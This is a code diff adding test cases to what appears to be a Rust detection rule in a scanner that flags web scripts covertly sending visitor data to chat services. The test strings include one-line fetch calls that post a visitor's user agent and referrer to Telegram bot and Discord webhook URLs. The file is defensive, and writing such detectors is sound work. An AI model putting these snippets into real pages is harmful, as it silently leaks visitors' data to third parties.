@@ -16,7 +16,11 @@ pub(super) const SIGNAL: Signal = Signal {
     cases: crate::signals::Cases {
         with: &[
             "fetch('https://api.telegram.org/bot'+t+'/sendMessage?chat_id=1&text='+encodeURIComponent(navigator.userAgent))",
+            "fetch('https://discord.com/api/webhooks/0/x',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({content:`New visitor: ${navigator.userAgent} from ${document.referrer}`})})",
         ],
-        without: &["fetch('https://api.telegram.org/bot'+t+'/sendMessage?chat_id=1&text=started')"],
+        without: &[
+            "form.onsubmit=()=>fetch('https://discord.com/api/webhooks/0/x',{method:'POST',body:JSON.stringify({content:note.value+navigator.userAgent})})",
+            "fetch('https://api.telegram.org/bot'+t+'/sendMessage?chat_id=1&text=started')",
+        ],
     },
 };
